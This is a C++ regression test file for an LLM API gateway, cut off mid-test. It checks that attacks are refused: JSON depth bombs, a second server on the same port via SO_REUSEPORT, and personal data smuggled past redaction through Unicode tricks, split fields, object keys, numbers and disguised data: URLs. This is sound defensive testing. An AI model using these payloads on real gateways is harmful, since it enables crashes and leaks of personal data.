TEST_F(GatewayTest, ClientErrors) {
  auto c = Client();
  httplib::Headers h = {{"Authorization", "Bearer " + admin_}};
  auto r = c.Post("/v1/chat/completions", h, "{not json", "application/json");
  EXPECT_EQ(r->status, 400);
  EXPECT_EQ(ErrorCode(r), "invalid_json");
  r = c.Post("/v1/chat/completions", h, R"({"model":"echo"})", "application/json");
  EXPECT_EQ(r->status, 400);
  r = c.Post("/v1/chat/completions", h, ChatBody("nope", "x").dump(), "application/json");
  EXPECT_EQ(r->status, 404);
  EXPECT_EQ(ErrorCode(r), "model_not_found");
  r = c.Post("/v1/chat/completions", h, ChatBody("echo", std::string(270000, 'a')).dump(),
             "application/json");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 413);
  EXPECT_EQ(ErrorCode(r), "request_too_large");
  r = c.Get("/v1/nothing");
  EXPECT_EQ(r->status, 404);
}

TEST_F(GatewayTest, UpstreamFailures) {
  auto r = Chat(ChatBody("fail", "x"), admin_);
  EXPECT_EQ(r->status, 502);
  EXPECT_EQ(ErrorCode(r), "upstream_error");
  r = Chat(ChatBody("down", "x"), admin_);
  EXPECT_EQ(r->status, 502);
  r = Chat(ChatBody("slow", "x"), admin_);
  EXPECT_EQ(r->status, 504);
  EXPECT_EQ(ErrorCode(r), "upstream_timeout");
  r = Chat(ChatBody("fail", "x", true), admin_);
  EXPECT_EQ(r->status, 502);
}

// Attack: a request body nested 80,000 levels deep to an upstream-routed model used to overflow
// the stack while it was re-serialized for the upstream (SIGSEGV, no key needed).
TEST_F(GatewayTest, DepthBombRequestGets400AndServerKeepsServing) {
  for (std::string model : {"echo", "think"}) {
    std::string bomb = std::string(80000, '[') + std::string(80000, ']');
    std::string body = R"({"model":")" + model +
                       R"(","messages":[{"role":"user","content":"x"}],"extra":)" + bomb + "}";
    auto c = Client();
    auto r = c.Post("/v1/chat/completions", {{"Authorization", "Bearer " + admin_}}, body,
                    "application/json");
    ASSERT_TRUE(r) << "the gateway died";
    EXPECT_EQ(r->status, 400);
    EXPECT_EQ(ErrorCode(r), "json_too_deep");
    // Nesting inside a message (a string would be fine; objects are not) is refused the same way.
    body = R"({"model":")" + model + R"(","messages":[{"role":"user","content":)" + bomb + "}]}";
    r = c.Post("/v1/chat/completions", {{"Authorization", "Bearer " + admin_}}, body,
               "application/json");
    ASSERT_TRUE(r) << "the gateway died";
    EXPECT_EQ(r->status, 400);
  }
  // Moderate nesting (a JSON Schema in `tools`) still passes.
  json ok = ChatBody("echo", "still here");
  json nested = "leaf";
  for (int i = 0; i < 40; ++i) nested = json{{"properties", nested}};
  ok["metadata_schema"] = nested;
  auto r = Chat(ok, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
  auto h = Client().Get("/health");
  ASSERT_TRUE(h);
  EXPECT_EQ(h->status, 200);
}

// Attack: a malicious or compromised upstream answers with one response nested 80,000 levels
// deep (non-streamed, and as one SSE event).
TEST_F(GatewayTest, DepthBombFromUpstreamGets502AndServerKeepsServing) {
  auto r = Chat(ChatBody("deep", "x"), admin_);
  ASSERT_TRUE(r) << "the gateway died";
  EXPECT_EQ(r->status, 502);
  EXPECT_EQ(ErrorCode(r), "upstream_error");
  r = Chat(ChatBody("deep", "x", true), admin_);
  ASSERT_TRUE(r) << "the gateway died";
  // The stream had started (200): it ends with an error event instead of the bomb.
  EXPECT_EQ(r->body.find("[[[["), std::string::npos);
  EXPECT_NE(r->body.find("upstream_error"), std::string::npos) << r->body;
  r = Chat(ChatBody("echo", "after the bomb"), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);
}

// Attack: a second process on the gateway's port. With SO_REUSEPORT the kernel split
// connections between the two, so requests could bypass keys, budgets and audit.
TEST_F(GatewayTest, SecondServerOnSamePortFailsToStart) {
  std::string port = std::to_string(serve_->port());
  // The same policy but its own audit log: the first server holds its log's one-writer lock,
  // which would refuse this one before it reaches the port (AuditLogTest covers that refusal).
  std::string policy;
  {
    std::ifstream in(config_);
    policy.assign(std::istreambuf_iterator<char>(in), {});
  }
  const std::string db = audit_db_;
  ASSERT_NE(policy.find(db), std::string::npos);
  policy.replace(policy.find(db), db.size(), db + ".second");
  const std::string second_config = config_ + ".second.toml";
  std::ofstream(second_config) << policy;
  auto second =
      RunAirlock({"serve", "--config", second_config, "--port", port}, /*with_stderr=*/true);
  EXPECT_EQ(second.first, 3) << second.second;
  EXPECT_NE(second.second.find("port " + port + " is already in use"), std::string::npos)
      << second.second;
  // And the same policy, audit log included, is refused too (one writer per log).
  auto same = RunAirlock({"serve", "--config", config_, "--port", "0"}, /*with_stderr=*/true);
  EXPECT_NE(same.first, 0) << same.second;
  EXPECT_NE(same.second.find("one writer"), std::string::npos) << same.second;
  // A plain socket with SO_REUSEPORT cannot share it either.
  int s = socket(AF_INET, SOCK_STREAM, 0);
  int yes = 1;
  setsockopt(s, SOL_SOCKET, SO_REUSEPORT, &yes, sizeof yes);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(serve_->port()));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  EXPECT_NE(bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  close(s);
  auto h = Client().Get("/health");
  ASSERT_TRUE(h);
  EXPECT_EQ(h->status, 200);
}

// Attack: personal data placed anywhere but messages[].content reached a logging upstream in
// clear (name, tool call arguments, tool descriptions and parameters, user, metadata, the
// completions suffix, image URLs, extra keys in content parts, content as a list of strings, data
// split across two text parts, unknown fields). Streamed and not.
TEST_F(GatewayTest, PiiInEveryForwardedFieldIsRewrittenBeforeTheUpstream) {
  const std::string email = "eve@example.com";
  auto user_msg = [](json content) { return json{{"role", "user"}, {"content", content}}; };
  std::vector<std::pair<std::string, json>> cases;
  auto chat = [&](const std::string& name, json messages, json extra = json::object()) {
    json body = {{"model", "echo"}, {"messages", messages}};
    for (const auto& [k, v] : extra.items()) body[k] = v;
    cases.emplace_back(name, body);
  };
  chat("messages[].name", json::array({{{"role", "user"}, {"content", "hi"}, {"name", email}}}));
  chat("tool_calls arguments",
       json::array(
           {user_msg("hi"),
            {{"role", "assistant"},
             {"content", nullptr},
             {"tool_calls",
              json::array({{{"id", "c1"},
                            {"type", "function"},
                            {"function",
                             {{"name", "send"}, {"arguments", "{\"to\":\"" + email + "\"}"}}}}})}},
            {{"role", "tool"}, {"tool_call_id", "c1"}, {"content", "sent"}}}));
  chat("tools description and parameters", json::array({user_msg("hi")}),
       {{"tools",
         json::array(
             {{{"type", "function"},
               {"function",
                {{"name", "send"},
                 {"description", "mail " + email},
                 {"parameters",
                  {{"type", "object"},
                   {"properties", {{"to", {{"type", "string"}, {"default", email}}}}}}}}}}})}});
  chat("user", json::array({user_msg("hi")}), {{"user", email}});
  chat("metadata", json::array({user_msg("hi")}), {{"metadata", {{"who", email}}}});
  chat("image url",
       json::array({user_msg(json::array(
           {{{"type", "image_url"}, {"image_url", {{"url", "https://img.test/?m=" + email}}}}}))}));
  chat("extra key in a content part",
       json::array({user_msg(json::array({{{"type", "text"}, {"text", "hi"}, {"note", email}}}))}));
  chat("content as a list of strings", json::array({user_msg(json::array({"mail ", email}))}));
  chat("split across two text parts",
       json::array({user_msg(json::array({{{"type", "text"}, {"text", "mail eve@exa"}},
                                          {{"type", "text"}, {"text", "mple.com today"}}}))}));
  chat("unknown field", json::array({user_msg("hi")}), {{"x_vendor", {{"list", {email}}}}});
  cases.emplace_back("completions suffix",
                     json{{"model", "echo"}, {"prompt", "x"}, {"suffix", email}});
  for (bool stream : {false, true}) {
    for (auto [name, body] : cases) {
      body["stream"] = stream;
      std::string path = body.contains("messages") ? "/v1/chat/completions" : "/v1/completions";
      std::size_t before = upstream_->raw().size();
      auto r = Client().Post(path, {{"Authorization", "Bearer " + admin_}}, body.dump(),
                             "application/json");
      ASSERT_TRUE(r) << name;
      EXPECT_EQ(r->status, 200) << name << ": " << r->body;
      auto raw = upstream_->raw();
      ASSERT_EQ(raw.size(), before + 1) << name;
      EXPECT_EQ(raw.back().find("example.com"), std::string::npos)
          << name << (stream ? " (streamed)" : "") << " leaked: " << raw.back();
      EXPECT_NE(raw.back().find("[EMAIL_"), std::string::npos) << name << ": " << raw.back();
    }
  }
}

// Evasion by Unicode (#13): an e-mail written with full-width forms or with invisible format
// characters inside is still found, and redaction removes all of its original bytes.
TEST_F(GatewayTest, UnicodeEvasionsOfPiiAreRedactedBeforeTheUpstream) {
  const std::vector<std::string> evasive = {
      "eve\uff20example\uff0ecom",       // full-width @ and .
      "e\u200bve@exam\u200dple.com",     // zero-width space and joiner
      "eve@\u2060example.com\u00ad",     // word joiner, soft hyphen
      "\uff45\uff56\uff45@example.com",  // full-width letters
  };
  for (bool stream : {false, true}) {
    for (const std::string& email : evasive) {
      json body = {{"model", "echo"},
                   {"stream", stream},
                   {"messages", json::array({{{"role", "user"}, {"content", "mail " + email}}})}};
      std::size_t before = upstream_->raw().size();
      auto r = Client().Post("/v1/chat/completions", {{"Authorization", "Bearer " + admin_}},
                             body.dump(), "application/json");
      ASSERT_TRUE(r) << email;
      EXPECT_EQ(r->status, 200) << email << ": " << r->body;
      auto raw = upstream_->raw();
      ASSERT_EQ(raw.size(), before + 1) << email;
      EXPECT_EQ(raw.back().find("example"), std::string::npos)
          << email << " leaked: " << raw.back();
      EXPECT_EQ(raw.back().find("\uff45\uff56"), std::string::npos) << raw.back();
      EXPECT_NE(raw.back().find("[EMAIL_"), std::string::npos) << email << ": " << raw.back();
    }
  }
}

// Attack (#13, after the merge): data split between fields passed, because each field was scanned
// alone: "mail alice@" in one message and "example.com" in the next, a name and its content,
// two tool calls' arguments, three messages, content parts with a separator part or blanks and
// zero-width characters at the cut. The model reads the fields as one text; so does the scan
// now (request order and reverse, as is and with the blanks at the cuts removed), against a
// logging upstream, streamed and not.
TEST_F(GatewayTest, PiiSplitAcrossFieldsIsRewrittenBeforeTheUpstream) {
  auto msg = [](const std::string& role, json content) {
    return json{{"role", role}, {"content", content}};
  };
  auto text_part = [](const std::string& t) { return json{{"type", "text"}, {"text", t}}; };
  auto tool_call = [](const std::string& id, const std::string& args) {
    return json{
        {"id", id}, {"type", "function"}, {"function", {{"name", "send"}, {"arguments", args}}}};
  };
  std::vector<std::pair<std::string, json>> cases = {
      {"two messages", json::array({msg("user", "mail alice@"), msg("user", "example.com now")})},
      {"user and assistant", json::array({msg("user", "mail alice@"),
                                          msg("assistant", "example.com"), msg("user", "ok")})},
      {"name and content",
       json::array({{{"role", "user"}, {"name", "alice@"}, {"content", "example.com"}}})},
      {"two tool calls' arguments",
       json::array({msg("user", "hi"),
                    {{"role", "assistant"},
                     {"content", nullptr},
                     {"tool_calls", json::array({tool_call("c1", "{\"to\":\"alice@"),
                                                 tool_call("c2", "example.com\"}")})}},
                    {{"role", "tool"}, {"tool_call_id", "c1"}, {"content", "sent"}},
                    {{"role", "tool"}, {"tool_call_id", "c2"}, {"content", "sent"}}})},
      {"three messages",
       json::array({msg("user", "mail al"), msg("user", "ice@exam"), msg("user", "ple.com")})},
      {"separator part",
       json::array({msg("user", json::array({text_part("mail alice@"), text_part("\n"),
                                             text_part("example.com")}))})},
      {"blanks at the cut",
       json::array({msg("user", "mail alice@ \n"), msg("user", "\t example.com")})},
      {"zero-width and ideographic space at the cut",
       json::array({msg("user", "mail alice@\u200b\u3000"), msg("user", "\u00a0example.com")})},
  };
  for (bool stream : {false, true}) {
    for (const auto& [name, messages] : cases) {
      json body = {{"model", "echo"}, {"messages", messages}, {"stream", stream}};
      std::size_t before = upstream_->raw().size();
      auto r = Chat(body, admin_);
      ASSERT_TRUE(r) << name;
      EXPECT_EQ(r->status, 200) << name << ": " << r->body;
      auto raw = upstream_->raw();
      ASSERT_EQ(raw.size(), before + 1) << name;
      EXPECT_EQ(raw.back().find("example.com"), std::string::npos)
          << name << (stream ? " (streamed)" : "") << " leaked: " << raw.back();
      EXPECT_EQ(raw.back().find("alice@"), std::string::npos) << name << ": " << raw.back();
      EXPECT_NE(raw.back().find("[EMAIL_"), std::string::npos) << name << ": " << raw.back();
      // The structure survives: roles, ids and function names are never cut.
      json sent = json::parse(raw.back());
      EXPECT_EQ(sent["messages"].size(), messages.size()) << name;
      for (std::size_t i = 0; i < messages.size(); ++i)
        EXPECT_EQ(sent["messages"][i]["role"], messages[i]["role"]) << name;
      if (name == "two tool calls' arguments") {
        for (const auto& tc : sent["messages"][1]["tool_calls"]) {
          EXPECT_EQ(tc["function"]["name"], "send") << raw.back();
        }
      }
    }
  }
  // A secret (redact) split between two messages, and a block class split over three.
  json secret = {{"model", "echo"},
                 {"messages", json::array({msg("user", "token ghp_0123456789abcdefghij"),
                                           msg("user", "ABCDEFGHIJ012345 ok")})}};
  std::size_t before = upstream_->raw().size();
  auto r = Chat(secret, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
  ASSERT_EQ(upstream_->raw().size(), before + 1);
  EXPECT_EQ(upstream_->raw().back().find("ABCDEFGHIJ012345"), std::string::npos)
      << upstream_->raw().back();
  EXPECT_NE(upstream_->raw().back().find("[REDACTED_SECRET]"), std::string::npos)
      << upstream_->raw().back();
  json id = {{"model", "echo"},
             {"messages", json::array({msg("user", "id 110105"), msg("user", "19491231"),
                                       msg("user", " 002X")})}};
  r = Chat(id, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 403) << r->body;
  EXPECT_EQ(ErrorCode(r), "policy_violation");
  EXPECT_EQ(upstream_->raw().size(), before + 1);
  // Numbers in separate messages that do not form data stay as they are.
  json plain = {{"model", "echo"},
                {"messages", json::array({msg("user", "I was born in 1987"),
                                          msg("assistant", "2024 minus that is 37"),
                                          msg("user", "12 apples, 4111 pears")})}};
  r = Chat(plain, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
  EXPECT_NE(upstream_->raw().back().find("4111 pears"), std::string::npos);
  EXPECT_EQ(upstream_->raw().back().find("REDACTED"), std::string::npos);
}

// A block class anywhere in the request blocks it, and a value the gateway cannot scan (a data:
// URL) is refused; neither reaches the upstream.
TEST_F(GatewayTest, BlockClassInAnyFieldAndUnscannableFieldsNeverLeave) {
  const std::string id = "11010519491231002X";  // cn_resident_id: block
  std::vector<json> bodies = {
      {{"model", "echo"},
       {"user", id},
       {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}},
      {{"model", "echo"},
       {"messages",
        json::array({{{"role", "user"},
                      {"content", json::array({{{"type", "text"}, {"text", "id 110105194912"}},
                                               {{"type", "text"}, {"text", "31002X"}}})}}})}},
      {{"model", "echo"},
       {"messages", json::array({{{"role", "user"}, {"content", "hi"}, {"name", id}}})}},
  };
  std::size_t before = upstream_->raw().size();
  for (const auto& body : bodies) {
    auto r = Chat(body, admin_);
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 403) << body.dump();
    EXPECT_EQ(ErrorCode(r), "policy_violation");
  }
  json data_url = {
      {"model", "echo"},
      {"messages",
       json::array(
           {{{"role", "user"},
             {"content",
              json::array({{{"type", "image_url"},
                            {"image_url",
                             {{"url", "data:text/plain;base64,ZXZlQGV4YW1wbGUuY29t"}}}}})}}})}};
  auto r = Chat(data_url, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400);
  EXPECT_EQ(ErrorCode(r), "unscannable_content");
  EXPECT_EQ(upstream_->raw().size(), before);
}

// Attack (R1): object keys were never scanned, so data sent as a key ({"alice@example.com":1} at
// the top level, in metadata, logit_bias, a tool schema's property names, a message or a content
// part) reached the upstream. A key cannot be rewritten safely: the request is refused (400).
// (B2: the keys also count towards the prompt estimate; see the budget arithmetic below.)
TEST_F(GatewayTest, PiiInObjectKeysIsRefusedNeverForwarded) {
  const std::string email = "alice@example.com";
  auto with = [](json body, const std::string& field, json value) {
    body[field] = value;
    return body;
  };
  json base = ChatBody("echo", "hi");
  std::vector<std::pair<std::string, json>> cases = {
      {"top level", with(base, email, 1)},
      {"metadata", with(base, "metadata", {{email, "x"}})},
      {"logit_bias", with(base, "logit_bias", {{email, 1}})},
      {"tool schema property name",
       with(base, "tools",
            json::array(
                {{{"type", "function"},
                  {"function",
                   {{"name", "f"},
                    {"parameters",
                     {{"type", "object"}, {"properties", {{email, {{"type", "string"}}}}}}}}}}}))},
      {"inside a message",
       {{"model", "echo"},
        {"messages", json::array({{{"role", "user"}, {"content", "hi"}, {email, 1}}})}}},
      {"inside a content part",
       {{"model", "echo"},
        {"messages",
         json::array(
             {{{"role", "user"},
               {"content", json::array({{{"type", "text"}, {"text", "hi"}, {email, 1}}})}}})}}},
      {"completions", {{"model", "echo"}, {"prompt", "x"}, {"metadata", {{email, 1}}}}},
  };
  std::size_t before = upstream_->raw().size();
  for (bool stream : {false, true}) {
    for (auto [name, body] : cases) {
      body["stream"] = stream;
      std::string path = body.contains("messages") ? "/v1/chat/completions" : "/v1/completions";
      auto r = Client().Post(path, {{"Authorization", "Bearer " + admin_}}, body.dump(),
                             "application/json");
      ASSERT_TRUE(r) << name;
      EXPECT_EQ(r->status, 400) << name << ": " << r->body;
      EXPECT_EQ(ErrorCode(r), "sensitive_data_in_key") << name;
      EXPECT_EQ(r->body.find(email), std::string::npos) << name << ": " << r->body;
    }
  }
  EXPECT_EQ(upstream_->raw().size(), before) << upstream_->raw().back();
  // Ordinary keys (and a logit_bias of token ids) still pass.
  auto r = Chat(with(base, "logit_bias", {{"50256", -100}}), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
}

// Attack (R2): the typed numeric fields skipped the long-number scan, so "seed":4111111111111111,
// "temperature":13812345678 or a top_p of 4.1e15 carried a card or phone number to the upstream.
// They are range-checked as OpenAI does (400 with `param`), and a long integer is scanned.
// A card or phone number written as a float or in exponent form keeps its digits in the mantissa
// (4532015112830366.0 dumps as 4.532015112830366e+15); it is scanned like an integer and never
// forwarded. Found by re-attacking the gateway after the first round of fixes.
TEST_F(GatewayTest, CardsAsFloatOrExponentNumbersAreRefused) {
  std::vector<std::string> raw_values = {"4532015112830366.0", "4532015112830366e0",
                                         "[1, 4532015112830366.0]", "1.3812345678e-5"};
  std::size_t before = upstream_->raw().size();
  for (const std::string& v : raw_values) {
    std::string body =
        R"({"model":"echo","messages":[{"role":"user","content":"hi"}],"x":)" + v + "}";
    auto r = Client().Post("/v1/chat/completions", {{"Authorization", "Bearer " + admin_}}, body,
                           "application/json");
    ASSERT_TRUE(r) << v;
    EXPECT_NE(r->status, 200) << v << ": " << r->body;
  }
  std::string typed = R"({"model":"echo","messages":[{"role":"user","content":"hi"}],)"
                      R"("top_p":0.00000000004532015112830366})";
  auto r = Client().Post("/v1/chat/completions", {{"Authorization", "Bearer " + admin_}}, typed,
                         "application/json");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400) << r->body;
  EXPECT_EQ(upstream_->raw().size(), before);
  // An ordinary float passes.
  std::string fine = R"({"model":"echo","messages":[{"role":"user","content":"hi"}],"x":0.25})";
  auto ok = Client().Post("/v1/chat/completions", {{"Authorization", "Bearer " + admin_}}, fine,
                          "application/json");
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 200) << ok->body;
}

// A data: URL behind leading blanks is still a data: URL to every URL parser; audio and file parts
// carry base64 payloads the detectors cannot read. None is forwarded.
TEST_F(GatewayTest, DataUrlWithLeadingBlanksAndEncodedPartsAreRefused) {
  std::vector<json> contents = {
      json::array(
          {{{"type", "image_url"},
            {"image_url", {{"url", " \tdata:text/plain;base64,YWxpY2VAZXhhbXBsZS5jb20="}}}}}),
      json::array({{{"type", "input_audio"},
                    {"input_audio", {{"data", "YWxpY2VAZXhhbXBsZS5jb20="}, {"format", "wav"}}}}}),
      json::array({{{"type", "file"}, {"file", {{"file_data", "YWxpY2VAZXhhbXBsZS5jb20="}}}}}),
  };
  std::size_t before = upstream_->raw().size();
  for (const json& content : contents) {
    json body = {{"model", "echo"},
                 {"messages", json::array({{{"role", "user"}, {"content", content}}})}};
    auto r = Chat(body, admin_);
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 400) << content.dump() << ": " << r->body;
    EXPECT_EQ(ErrorCode(r), "unscannable_content") << r->body;
  }
  EXPECT_EQ(upstream_->raw().size(), before);
}

// Attack (F3, red team): "da\tta:", "data\n:", "d\rata:" and "D\nATA:" in image_url.url were
// forwarded (a URL parser removes tabs and newlines anywhere in the scheme), and so was a
// {"type":"image","image":"<base64>"} part. The scheme is read as WHATWG does; a part whose type
// is not one the gateway can scan is refused (fail closed), with or without a type.
TEST_F(GatewayTest, DataUrlWithControlCharactersInTheSchemeAndUnscannablePartsAreRefused) {
  const std::string png =
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+"
      "M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
  std::vector<json> contents;
  for (const char* scheme :
       {"da\tta:", "data\n:", "d\rata:", "D\nATA:", "\x01 d\ta\nt\ra:", "data\t\t:"}) {
    const std::string url = std::string(scheme) + "image/png;base64," + png;
    contents.push_back(
        json::array({{{"type", "text"}, {"text", "read the card number in this screenshot"}},
                     {{"type", "image_url"}, {"image_url", {{"url", url}}}}}));
    contents.push_back(json::array({{{"type", "image_url"}, {"image_url", url}}}));
  }
  for (const char* type : {"image", "Input_Audio", "audio", "video_url", "input_image",
                           "input_file", "document", "x_vendor_blob"})
    contents.push_back(json::array({{{"type", type}, {"data", png}}}));
  contents.push_back(json::array({{{"type", "image"}, {"image", png}}}));
  contents.push_back(json::array({{{"image", png}}}));  // no type
  contents.push_back(json::array({{{"Audio", {{"data", png}}}}}));
  std::size_t before = upstream_->raw().size();
  for (const json& content : contents) {
    json body = {{"model", "echo"},
                 {"messages", json::array({{{"role", "user"}, {"content", content}}})}};
    auto r = Chat(body, admin_);
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 400) << content.dump() << ": " << r->body;
    EXPECT_EQ(ErrorCode(r), "unscannable_content") << content.dump();
  }
  EXPECT_EQ(upstream_->raw().size(), before);
  // Text that merely mentions the scheme, and an https image, still pass.
  json body = {
      {"model", "echo"},
      {"messages",
       json::array({{{"role", "user"},
                     {"content", json::array({{{"type", "text"}, {"text", "what is a data: URL?"}},
                                              {{"type", "image_url"},
                                               {"image_url", {{"url", "https://img.test/a.png"}}}},
                                              {{"type", "input_text"}, {"text", "da\tta"}}})}}})}};
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
}

// Attack (review of F3's fix): a no-break space, a byte-order mark, an ideographic space or a
// zero-width space before "data:" got the URL forwarded; an upstream that strips Unicode blanks
// first (Python's str.strip()) reads it as a data: URL. They are stripped as blanks are.
TEST_F(GatewayTest, DataUrlBehindUnicodeBlanksIsRefused) {
  const std::string png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk";
  std::size_t before = upstream_->raw().size();
  for (const char* prefix : {"\xC2\xA0", "\xEF\xBB\xBF", "\xE3\x80\x80 ", "\xE2\x80\x8B",
                             "\xE2\x80\xAF\xC2\xA0\t", "\xC2\x85"}) {
    const std::string url = std::string(prefix) + "data:image/png;base64," + png;
    json body = {
        {"model", "echo"},
        {"messages", json::array({{{"role", "user"},
                                   {"content", json::array({{{"type", "image_url"},
                                                             {"image_url", {{"url", url}}}}})}}})}};
    auto r = Chat(body, admin_);
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 400) << url.substr(0, 12) << ": " << r->body;
    EXPECT_EQ(ErrorCode(r), "unscannable_content");
  }
  EXPECT_EQ(upstream_->raw().size(), before);
}

TEST_F(GatewayTest, DataInTypedNumericFieldsIsRefused) {
  struct Case {
    std::string field;
    json value;
    std::string code;
  };
  std::vector<Case> cases = {
      {"seed", 4111111111111111, "sensitive_data_in_number"},
      {"temperature", 13812345678, "invalid_value"},
      {"temperature", -0.5, "invalid_value"},
      {"top_p", 4.1e15, "invalid_value"},
      {"top_p", 1.5, "invalid_value"},
      {"presence_penalty", 2.5, "invalid_value"},
      {"frequency_penalty", -13812345678.0, "invalid_value"},
      {"n", 13812345678, "invalid_n"},
      {"best_of", 4111111111111111, "invalid_value"},
      {"best_of", 0, "invalid_value"},
  };
  std::size_t before = upstream_->raw().size();
  for (const auto& c : cases) {
    json body = ChatBody("echo", "hi");
    body[c.field] = c.value;
    auto r = Chat(body, admin_);
    ASSERT_TRUE(r) << c.field;
    EXPECT_EQ(r->status, 400) << c.field << "=" << c.value << ": " << r->body;
    EXPECT_EQ(ErrorCode(r), c.code) << c.field << "=" << c.value;
    json err = json::parse(r->body, nullptr, false);
    EXPECT_EQ(err["error"]["param"], c.field) << r->body;
  }
  EXPECT_EQ(upstream_->raw().size(), before);
  // Values in range pass and are forwarded as numbers.
  json ok = ChatBody("echo", "hi");
  ok["seed"] = 42;
  ok["temperature"] = 0.7;
  ok["top_p"] = 1;
  ok["presence_penalty"] = -2;
  auto r = Chat(ok, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
  json sent = json::parse(upstream_->raw().back());
  EXPECT_EQ(sent["seed"], 42);
  EXPECT_EQ(sent["temperature"], 0.7);
}

// Attack (R3): /v1/completions does not check a `messages` array, yet the walker skipped its
// roles and iterated its entries as objects: a role carrying data was forwarded, and
// "messages":["x"] or [{"content":[5]}] threw (HTTP 500). Now every shape is walked as plain JSON.
TEST_F(GatewayTest, MessagesOnCompletionsAreScannedWhateverTheirShape) {
  const std::vector<json> shapes = {
      json::array({{{"role", "alice@example.com"}}}),
      json::array({"x"}),
      json::array({{{"content", json::array({5})}}}),
      json::array({{{"content", json::array({"mail alice@example.com", 7})}}}),
      json::array({{{"content", 5}}}),
      json::array({json::array({"alice@example.com"})}),
      json(5),
  };
  for (bool stream : {false, true}) {
    for (const auto& messages : shapes) {
      json body = {{"model", "echo"}, {"prompt", "hi"}, {"stream", stream}, {"messages", messages}};
      std::size_t before = upstream_->raw().size();
      auto r = Client().Post("/v1/completions", {{"Authorization", "Bearer " + admin_}},
                             body.dump(), "application/json");
      ASSERT_TRUE(r);
      EXPECT_EQ(r->status, 200) << messages << ": " << r->body;
      auto raw = upstream_->raw();
      ASSERT_EQ(raw.size(), before + 1) << messages;
      EXPECT_EQ(raw.back().find("alice@example.com"), std::string::npos) << raw.back();
    }
  }
  // Chat roles are still checked, and scanning them changes nothing.
  auto r = Chat(ChatBody("echo", "hi"), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);
  EXPECT_EQ(json::parse(upstream_->raw().back())["messages"][0]["role"], "user");
}

// docs/policy.md lists every request field and what the gateway does with it; this walks that
// table. A row's sample (EMAIL: an address the test policy pseudonymizes) goes into a request; a
// value from a "scanned" or "refused" row must never reach the upstream.
TEST_F(GatewayTest, PolicyFieldTableHolds) {
  std::ifstream doc(std::string(AIRLOCK_SOURCE_DIR) + "/docs/policy.md");
  ASSERT_TRUE(doc) << "docs/policy.md";
  std::string line;
  bool in_requests = false;
  int rows = 0;
  while (std::getline(doc, line)) {
    if (line.rfind("## ", 0) == 0) in_requests = line == "## Requests";
    if (!in_requests || line.rfind("| `", 0) != 0) continue;
    // | field | `sample` | action |
    std::size_t sample_begin = line.find("| `", 2);
    std::size_t sample_end = line.find("` |", sample_begin);
    ASSERT_NE(sample_end, std::string::npos) << line;
    std::string sample = line.substr(sample_begin + 3, sample_end - sample_begin - 3);
    std::string action = line.substr(sample_end + 4);
    for (std::size_t pos; (pos = sample.find("EMAIL")) != std::string::npos;)
      sample.replace(pos, 5, "eve@example.com");
    json fields = json::parse(sample, nullptr, false);
    ASSERT_TRUE(fields.is_object()) << line;
    bool refused = action.rfind("refused", 0) == 0;
    bool scanned =
        action.rfind("scanned", 0) == 0 || action.find("scanned and") != std::string::npos;
    for (bool stream : {false, true}) {
      json body = {{"model", "echo"},
                   {"stream", stream},
                   {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}};
      if (fields.contains("prompt")) body.erase("messages");
      for (const auto& [k, v] : fields.items()) body[k] = v;
      std::string path = body.contains("prompt") ? "/v1/completions" : "/v1/chat/completions";
      std::size_t before = upstream_->raw().size();
      auto r = Client().Post(path, {{"Authorization", "Bearer " + admin_}}, body.dump(),
                             "application/json");
      ASSERT_TRUE(r) << line;
      auto raw = upstream_->raw();
      if (refused) {
        EXPECT_EQ(r->status, 400) << line;
        EXPECT_EQ(raw.size(), before) << line;
        continue;
      }
      if (scanned && r->status == 403) {  // blocked or restricted by the test policy
        EXPECT_EQ(raw.size(), before) << line;
        continue;
      }
      EXPECT_EQ(r->status, 200) << line << "\n" << r->body;
      ASSERT_EQ(raw.size(), before + 1) << line;
      if (scanned) {
        EXPECT_EQ(raw.back().find("example.com"), std::string::npos) << line << "\n" << raw.back();
        EXPECT_EQ(raw.back().find("4111111111111111"), std::string::npos) << line;
      }
    }
    ++rows;
  }
  EXPECT_GE(rows, 20) << "the request table in docs/policy.md was not found or lost rows";
}

// Attack: secrets and personal data in model output (upstream or local, streamed or not) passed
// untouched. Rules apply to responses too; matches split across stream chunks are seen whole.
TEST_F(GatewayTest, SecretsAndPiiInModelOutputAreRedactedStreamedAndNot) {
  for (bool stream : {false, true}) {
    auto r = Chat(ChatBody("leak", "hi", stream), admin_);
    ASSERT_TRUE(r);
    ASSERT_EQ(r->status, 200) << r->body;
    std::string text =
        stream ? StreamText(r->body)
               : json::parse(r->body)["choices"][0]["message"]["content"].get<std::string>();
    EXPECT_EQ(text.find("bob@corp.example"), std::string::npos) << text;
    EXPECT_EQ(text.find("ghp_"), std::string::npos) << text;
